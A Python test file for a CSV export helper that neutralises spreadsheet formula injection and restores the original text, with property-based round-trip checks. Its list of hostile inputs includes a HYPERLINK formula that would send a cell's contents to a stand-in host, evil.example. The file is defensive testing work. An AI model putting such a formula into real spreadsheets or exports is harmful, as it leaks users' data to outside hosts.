"""Spreadsheet-safe CSV cells: formula starts are neutralised, numbers stay numbers, and the rule undoes exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from judgedesk.core.reports import restore_csv_cell, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "=1+1", "+1+1", "-1-1", "@cat", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["model-alpha", "plain text", "1+1", " =1", "", "A", "tie"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("number", [-0.5, -3, 0, 7, 0.25, 1e-9])
def test_numbers_judgedesk_computes_stay_numbers(number: float) -> None:
    assert spreadsheet_safe(number) is number


def test_a_text_that_starts_with_a_quote_gets_one_more_so_it_can_be_restored() -> None:
    assert spreadsheet_safe("'=1+1") == "''=1+1"
    assert restore_csv_cell(spreadsheet_safe("'=1+1")) == "'=1+1"
    assert restore_csv_cell(spreadsheet_safe("'Twas")) == "'Twas"


@given(st.text())
def test_every_text_round_trips_through_a_csv_file(text: str) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")  # as verdicts.csv is written
    writer.writerow([spreadsheet_safe(text), spreadsheet_safe(-0.5)])
    (cell, number), = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert restore_csv_cell(cell) == text
    assert number == "-0.5"  # written as a number, unquoted
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
